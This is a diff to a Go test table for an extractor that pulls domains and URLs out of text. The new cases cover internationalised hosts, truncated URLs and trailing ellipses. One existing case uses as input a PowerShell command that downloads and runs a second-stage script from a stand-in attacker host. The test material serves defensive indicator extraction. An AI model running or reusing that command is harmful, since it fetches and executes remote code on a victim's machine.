@@ -55,6 +55,10 @@ var extractCases = []struct {
 	{"unicode text around", "Ünïcödé текст перед evil.ru и после — 攻击者使用 bad.cn 域名",
 		[]tv{{DNS, "evil.ru"}, {DNS, "bad.cn"}}},
 	{"domain glued to accented word is not a domain", "Grüßemünchen.de", nil},
+	{"url with an internationalised host", "visit https://münchen.de/path and http://例え.jp/ now",
+		[]tv{{URL, "https://münchen.de/path"}, {DNS, "xn--mnchen-3ya.de"}, {URL, "http://例え.jp/"}, {DNS, "xn--r8jz45g.jp"}}},
+	{"url cut by a non-ASCII letter is not reported truncated", "bad https://mü x", nil},
+	{"url followed by an ellipsis", "see http://example.com… and more", []tv{{URL, "http://example.com"}, {DNS, "example.com"}}},
 
 	// ---- URLs (host reported too; larger match wins)
 	{"url with host and no separate domain or path", "powershell IEX (New-Object Net.WebClient).DownloadString('https://cdn.evil-updates.com/a/b/stage2.ps1?id=42&k=x')",
